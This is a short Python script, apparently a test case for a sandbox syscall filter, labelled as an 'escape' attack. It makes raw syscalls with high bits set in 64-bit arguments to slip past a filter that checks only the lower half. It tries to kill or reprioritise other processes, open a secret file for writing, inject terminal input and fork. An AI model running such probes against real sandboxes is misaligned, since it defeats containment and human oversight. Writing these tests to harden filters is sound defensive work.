# /// attack
# kind = "escape"
# aim = "hide another process's number from the filter in the upper half of an argument"
# outcome = "exited"
# machine = "x86_64"
# ///
import ctypes
import json
import os

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
high = ctypes.c_uint64
for pid in (given["victim"], given["neighbour"], os.getppid()):
    for top in (1 << 32, 0xFFFFFFFF << 32, 1 << 63):
        for name, arguments in (
            ("kill", (62, high(top | pid), high(top))),
            ("tgkill", (234, high(top | pid), high(top | pid), high(top))),
            ("prlimit64", (302, high(top | pid), 7, None, ctypes.create_string_buffer(16))),
        ):
            if libc.syscall(*arguments) == 0:
                print("managed", name, hex(top))
for name, arguments in (
    ("socket pair of datagrams", (53, high(1 << 32 | 1), high(1 << 32 | 2), 0, ctypes.create_string_buffer(8))),
    ("socket pair of another family", (53, high(1 << 32 | 2), high(1), 0, ctypes.create_string_buffer(8))),
    ("open to write", (257, high(0xFFFFFF9C), given["secret"].encode(), high(1 << 32 | os.O_WRONLY | os.O_APPEND))),
    ("file owner", (72, 0, high(1 << 32 | 8), given["victim"])),
    ("terminal request", (16, 0, high(1 << 32 | 0x5412), b"x")),
    ("fork", (56, high(1 << 32 | 17), 0, 0, 0, 0)),
    ("prctl", (157, high(1 << 32 | 36), 1, 0, 0, 0)),
):
    result = libc.syscall(*arguments)
    if result == 0 and name == "fork":
        os._exit(0)
    if result >= 0:
        print("managed", name)
print("contained")
